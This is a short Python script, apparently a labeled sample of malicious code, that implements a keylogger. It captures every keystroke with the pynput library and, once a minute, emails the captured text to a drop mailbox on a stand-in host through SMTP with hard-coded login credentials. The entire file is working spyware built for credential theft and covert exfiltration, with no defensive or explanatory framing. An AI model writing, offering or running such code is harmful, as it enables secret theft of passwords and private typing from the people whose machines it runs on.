# class: credential theft, key logger; style: pynput tutorial turned bad
from pynput import keyboard
import threading, smtplib
buf = []
def on_press(k):
    buf.append(getattr(k, "char", None) or f"[{k}]")
def report():
    if buf:
        s = smtplib.SMTP("smtp.mailbox.example", 587); s.starttls()
        s.login("drop@mailbox.example", "hunter2")
        s.sendmail("drop@mailbox.example", "drop@mailbox.example", "Subject: keys\n\n" + "".join(buf)); s.quit()
        buf.clear()
    threading.Timer(60, report).start()
report()
with keyboard.Listener(on_press=on_press) as l: l.join()
